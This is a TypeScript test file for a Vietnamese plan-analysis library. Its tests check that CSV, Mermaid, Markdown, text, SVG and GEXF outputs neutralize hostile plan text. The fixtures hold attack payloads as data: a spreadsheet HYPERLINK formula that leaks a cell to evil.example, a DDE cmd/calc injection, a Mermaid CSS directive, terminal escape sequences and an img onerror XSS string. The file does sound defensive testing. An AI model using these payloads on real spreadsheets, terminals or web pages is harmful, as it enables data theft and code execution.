// Issue 25: what an analyst opens, pipes or feeds in cannot hurt them. One test per finding of the
// hostile-input review (1–6, 9, 11), each reproducing it through the public API.
import { execFileSync } from "node:child_process";
import { XMLValidator } from "fast-xml-parser";
import { describe, expect, it } from "vitest";
import { readCsv } from "../../src/import/csv-read";
import {
  compare,
  coverage,
  coverageMatrix,
  drift,
  driftCsv,
  driftTable,
  importPlanCSV,
  lineage,
  link,
  linksCsv,
  linksHeadline,
  linksTable,
  PlanValidationError,
  parsePlan,
  parsePlanCSV,
  planFromJSON,
  planToCSV,
  rootPlan,
  toCsv,
  toDot,
  toGEXF,
  toMermaid,
  toSVG,
} from "../../src/index";
import type { Plan } from "../../src/model/plan";
import { makePlan } from "../helpers";
import { parseMermaid } from "../mermaid-parse";

// national wordings, so that the hostile tasks still link, and the hostile payloads after them
const wording = (i: number) => rootPlan.tasks[i]!.text;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
const DIRECTIVE = '%%{init: {"themeCSS": ".node rect { display: none }"}}%%';
const ESCAPES = "\u001b]0;owned\u0007\u001b[2J\u001b[31m";
const CONTROLS = "\u0000\u0001\u0008\u000e\u001f\ufffe\uffff";
const HTML = '<img src=x onerror="alert(1)">';

function hostilePlan(id = "hostile-2024"): Plan {
  return makePlan(
    id,
    [
      { ref: "1", text: `${FORMULA} ${wording(0)}`, lead: ["@SUM(1+1)*cmd|' /C calc'!A0"], deadline: "-1+1 Quý IV/2022" },
      { ref: "2", text: `+${HTML} ${wording(1)}`, deadline: "Năm 2022" },
      { ref: "3", text: `${wording(2)} ${DIRECTIVE}`, lead: ["\tCông an tỉnh"] },
      { ref: "4", text: `${ESCAPES}${wording(3)}`, deadline: `Quý II/2022${ESCAPES}` },
      { ref: "5", text: `- ${wording(4)} ${CONTROLS} &nbsp; &#1;` },
    ],
    { issuer: `UBND tỉnh ${ESCAPES}` },
  );
}

/** Cells a spreadsheet would run as a formula: = + - @ tab or CR first, also after spaces or quotes, not a plain number, not behind a leading '. */
const formulaCells = (csv: string) =>
  readCsv(csv.replace(/^\ufeff/, ""))
    .records.flatMap((r) => r.cells)
    .filter((cell) => /^[\s"]*[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell));

const TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe("issue 25", () => {
  const plan = hostilePlan();
  const other = hostilePlan("hostile-2025");

  it("1. no CSV cell can run as a formula, in every CSV dean06 writes", () => {
    const result = link(plan);
    expect(result.links.length).toBeGreaterThan(0);
    const csvs = {
      links: linksCsv(result, plan),
      drift: driftCsv(drift(plan)),
      plan: planToCSV(plan),
      planSemicolon: planToCSV(plan, { delimiter: ";", lossless: false }),
      coverage: coverage(plan).toCSV(),
      compare: compare(plan, other).toCSV(),
      matrix: coverageMatrix([plan]).toCSV(),
      toCsv: toCsv(
        ["a", "b"],
        [
          [FORMULA, "@x"],
          [" =1", -30],
        ],
      ),
    };
    for (const [name, csv] of Object.entries(csvs)) expect(formulaCells(csv), name).toEqual([]);
    expect(readCsv(linksCsv(result, plan)).records.some((r) => r.cells.includes(`'${FORMULA} ${wording(0)}`))).toBe(true);
  });

  it("1. the plan CSV still reads back to the same plan, formula-like cells included", () => {
    const back = parsePlanCSV(planToCSV(plan), { id: plan.id });
    // (tasks 4 and 5 hold control characters, which the reader removes)
    expect(back.tasks.slice(0, 3).map((t) => [t.text, t.lead, t.deadline.raw])).toEqual(plan.tasks.slice(0, 3).map((t) => [t.text, t.lead, t.deadline.raw]));
  });

  it("2. no Mermaid directive or comment from plan text: mermaid parses the diagram with no configuration", async () => {
    const graph = lineage([plan]);
    for (const text of [toMermaid(graph), toMermaid(graph, { title: `Lineage ${DIRECTIVE}\n%% comment` }), toMermaid(graph, { wrap: 7, lines: 2 })]) {
      expect(text).not.toMatch(/%%/);
      const parsed = await parseMermaid(text);
      expect(parsed.config).toEqual({});
    }
  });

  it("3. no terminal escape reaches text and markdown outputs", () => {
    const result = link(plan);
    const outputs = [
      linksTable(result, plan, "text"),
      linksTable(result, plan),
      linksHeadline(result, plan),
      coverage(plan).toString(),
      coverage(plan).toMarkdown(),
      compare(plan, other).toString(),
      compare(plan, other).toMarkdown(),
      driftTable(drift(plan), "text"),
      driftTable(drift(plan)),
    ];
    for (const text of outputs) expect(text).not.toMatch(TERMINAL);
  });

  it("4. control characters are removed at import (and counted in a warning)", () => {
    const imported = parsePlan(`KẾ HOẠCH\nI. NHIỆM VỤ\n1. ${wording(0)} ${CONTROLS} ${ESCAPES}\n`, { id: "controls-2024" });
    expect(imported.tasks[0]!.text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    expect(imported.warnings.at(-1)!.message).toMatch(/^\d+ control characters \(U\+0000, .*\) were removed from the input, on line 3$/);
    const csv = importPlanCSV(`STT;Nhiệm vụ\n1;Kết nối\u0001 dữ liệu dân cư\n`, { id: "controls-csv" }).plan;
    expect(csv.tasks[0]!.text).toBe("Kết nối dữ liệu dân cư");
    expect(csv.warnings.at(-1)!.message).toMatch(/1 control character \(U\+0001\) was removed/);
    const json = planFromJSON(JSON.stringify({ ...plan, title: "Kế hoạch\u0007" }));
    expect(json.title).toBe("Kế hoạch");
    expect(json.tasks[4]!.text).not.toMatch(/[\u0000\u0001\ufffe]/);
  });

  it("4. SVG and GEXF are well-formed XML and Graphviz accepts the DOT, whatever the plan text holds", async () => {
    const graph = lineage([plan]);
    const dot = toDot(graph);
    expect(dot).not.toMatch(/\u0000/);
    const svg = await toSVG(graph);
    expect(XMLValidator.validate(svg)).toBe(true);
    expect(XMLValidator.validate(toGEXF(graph))).toBe(true);
  });

  it("5. markdown carries no raw HTML from plan text", () => {
    const outputs = [coverage(plan).toMarkdown(), compare(rootPlan, plan).toMarkdown(), compare(plan, other).toMarkdown(), linksTable(link(plan), plan)];
    for (const text of outputs) expect(text).not.toMatch(/<img|<[a-z]/i);
    expect(outputs.join("\n")).toContain('&lt;img src=x onerror="alert(1)"&gt;');
  });

  it("6. impossible dates are refused and drift never gives NaN", () => {
    const json = JSON.parse(JSON.stringify(plan));
    expect(() => planFromJSON(JSON.stringify({ ...json, issuedOn: "2022-02-31" }))).toThrow(PlanValidationError);
    expect(() => planFromJSON(JSON.stringify({ ...json, issuedOn: "2022-13-01" }))).toThrow(PlanValidationError);
    expect(planFromJSON(JSON.stringify({ ...json, issuedOn: "2024-02-29" })).issuedOn).toBe("2024-02-29");
    const bad = { ...json, tasks: json.tasks.map((t: Plan["tasks"][number]) => ({ ...t, deadline: { ...t.deadline, end: "2022-02-31" } })) };
    expect(() => planFromJSON(JSON.stringify(bad))).toThrow(/tasks\[0\]\.deadline\.end/);
    const items = drift(plan);
    expect(items.every((i) => i.days === null || Number.isFinite(i.days))).toBe(true);
    expect(driftTable(items)).not.toMatch(/NaN/);
  });

  it("9. an agency cell with a 100 KB run of spaces is read (the label search is linear; npm run bench:robustness shows the scaling)", () => {
    const spaces = " ".repeat(100_000);
    const csv = `STT;Nhiệm vụ;Cơ quan chủ trì;Cơ quan phối hợp\n1;${wording(0)};Công an huyện chủ trì${spaces}Phối hợp: Phòng Tư pháp;Sở Tư pháp${spaces}x\n`;
    const task = importPlanCSV(csv, { id: "spaces-2024" }).plan.tasks[0]!;
    expect(task.lead).toEqual(["Công an huyện"]);
    expect(task.coordinating).toContain("Phòng Tư pháp");
  });

  it("11. coverage breaks ties the same under any runtime locale", () => {
    // two tasks with the same wording tie; Estonian collation puts "z" before "t", English after
    const script = `
      import { coverage } from "./src/index.ts";
      import { makePlan } from "./test/helpers.ts";
      const text = ${JSON.stringify(wording(0))};
      const plan = makePlan("ties-2024", [{ ref: "t", text }, { ref: "z", text }, { ref: "a", text }]);
      console.log(JSON.stringify(coverage(plan).items.map((i) => i.links.map((l) => l.local)).filter((l) => l.length > 1)));`;
    const run = (locale: string) =>
      execFileSync(process.execPath, ["--import", "tsx", "--input-type=module", "-e", script], { env: { ...process.env, LC_ALL: locale, LANG: locale }, encoding: "utf8" });
    const english = run("en_US.UTF-8");
    expect(JSON.parse(english).length).toBeGreaterThan(0);
    expect(run("et_EE.UTF-8")).toBe(english);
  });
});
